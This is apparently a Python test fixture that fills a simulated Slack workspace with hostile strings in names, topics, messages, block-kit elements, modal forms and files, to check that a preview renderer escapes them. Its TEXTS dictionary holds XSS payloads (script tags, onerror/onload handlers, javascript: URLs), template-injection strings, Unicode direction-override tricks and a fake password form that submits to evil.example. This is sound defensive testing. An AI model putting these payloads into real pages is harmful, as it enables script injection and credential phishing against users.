"""A workspace in which every word that somebody could choose was chosen by somebody hostile."""

from __future__ import annotations

from dataclasses import dataclass
from html import escape

from bot.preview.hostile import HOSTILE
from sandbox.messages import Content
from sandbox.model import Channel, File, Json, User
from tests.browser.gallery import asks, mrkdwn, option, plain
from tests.support.pages import PageStage

_RUNS = "top.document.title='broken in'"
TEXTS: dict[str, str] = HOSTILE | {
    "script": f"<script>{_RUNS}</script>",
    "picture": f'"><img src=x onerror="{_RUNS}"><svg onload="{_RUNS}">',
    "frame": f'<iframe srcdoc="<script>{_RUNS}</script>"></iframe><object data="javascript:{_RUNS}">',
    "form": '<form action="https://evil.example/"><input name=password autofocus><button>Log in</button>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "address": f"<javascript:{_RUNS}|bank> javascript:{_RUNS} <data:text/html,x|me> <//evil.example/x|x>",
    "markup": "*_~`*_~` ```*_~ &gt;&gt;&gt; > * _ ~ ``` *<script>* _<b>_ **__~~ [x](javascript:alert(1))",
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 7*7 %> #{7*7}",
    "zalgo": "Ỳ̡̢̛̛̛̗̗̗̗̀̀̀̀" + "o̵̡̧̲̯͓͗̈́͒̕" * 300,
    "override": "\u202e\u202e\u2067exe.gnissel\u202d \u2028\u2029\u200b\ufeff\u00ad",
    "no_break": "W" * 600,
    "many_lines": "line\n" * 300,
    "bombs": "💣" * 1500 + ":bomb:" * 1500,
}


@dataclass(frozen=True, slots=True)
class HostilePlace:
    """What a hostile person called things, in channels of Ada's that hold nothing else."""

    said: Channel
    built: Channel
    author: User


def cut(text: str, length: int) -> str:
    """As much of a text as Slack takes there; something, where nothing is left of it."""
    return text[:length] if text.strip() else "-"


def a_hostile_place(stage: PageStage) -> HostilePlace:
    """All that is hostile, said by somebody in one channel and put into blocks by the app in another."""
    workspace = stage.workspace
    author = workspace.add_person(cut(TEXTS["picture"], 80), title=cut(TEXTS["script"], 80))
    everybody = [stage.ada.id, author.id, stage.app.bot_user_id]
    for name in ("long_word", "override", "zalgo", "script"):
        everybody.append(workspace.add_person(cut(TEXTS[name], 80)).id)
    said, built = (workspace.add_channel(name, members=everybody) for name in ("said", "built"))
    workspace.set_topic(said.id, TEXTS["no_break"], by=author.id)
    workspace.set_purpose(said.id, TEXTS["frame"], by=author.id)
    for text in TEXTS.values():
        if text.strip():
            workspace.post(said.id, author.id, escape(text, quote=False))
    workspace.react(said.id, next(reversed(said.messages)), author.id, "bomb")
    for name in TEXTS:
        content = Content(TEXTS[name], blocks_of(name), files=[_file(stage, author, name)])
        workspace.add_message(built, stage.app.bot_user_id, content, app=stage.app)
    return HostilePlace(said, built, author)


def blocks_of(name: str) -> list[Json]:
    """A text wherever an app may put one into a message."""
    text = TEXTS[name]
    short, words = plain(cut(text, 75)), mrkdwn(cut(text, 3000))
    choices = [{"text": short, "value": f"v{number}", "description": short} for number in range(2)]
    more = {"type": "overflow", "action_id": "more", "options": choices}
    return [
        {"type": "header", "text": plain(cut(text, 150))},
        {"type": "section", "text": words, "accessory": more},
        {"type": "section", "text": plain(cut(text, 3000)), "fields": [mrkdwn(cut(text, 2000))] * 2},
        {"type": "context", "elements": [words, plain(cut(text, 3000))]},
        {"type": "markdown", "text": cut(text, 3000)},
        _rich(text),
        _table(text),
        {
            "type": "actions",
            "elements": [
                {"type": "button", "action_id": "press", "text": short, "value": cut(text, 2000)},
                {"type": "static_select", "action_id": "pick", "placeholder": short, "options": choices},
                {"type": "radio_buttons", "action_id": "one", "options": choices},
            ],
        },
    ]


def a_hostile_form(name: str) -> Json:
    """A text wherever an app may put one into a form."""
    text = TEXTS[name]
    choices = [option(cut(text, 75), "a", cut(text, 75)), option("Another", "b")]
    return {
        "type": "modal",
        "callback_id": "schedule",
        "title": plain(cut(text, 24)),
        "submit": plain(cut(text, 24)),
        "close": plain(cut(text, 24)),
        "blocks": [
            asks(
                "title",
                cut(text, 2000),
                {
                    "type": "plain_text_input",
                    "initial_value": cut(text, 3000),
                    "placeholder": plain(cut(text, 150)),
                },
                hint=plain(cut(text, 2000)),
            ),
            asks("mode", cut(text, 200), {"type": "static_select", "options": choices}, optional=True),
            asks("kind", cut(text, 200), {"type": "checkboxes", "options": choices}, optional=True),
        ],
    }


def _rich(text: str) -> Json:
    said = {"type": "text", "text": cut(text, 3000)}
    link = {"type": "link", "url": "https://example.org/", "text": cut(text, 200)}
    elements = [{"type": "rich_text_section", "elements": [said, link]}]
    return {
        "type": "rich_text",
        "elements": [*elements, {"type": "rich_text_preformatted", "elements": [said]}],
    }


def _table(text: str) -> Json:
    cell = {"type": "raw_text", "text": cut(text, 500)}
    return {"type": "table", "rows": [[cell, cell], [cell, cell]]}


def _file(stage: PageStage, author: User, name: str) -> File:
    text = cut(TEXTS[name].replace("/", "_"), 200)
    made = stage.workspace.unix()
    file = File(f"F{name}", text, text, author.id, made, 4, b"<b>!</b>", True, True, "text/html")
    stage.workspace.files[file.id] = file
    return file
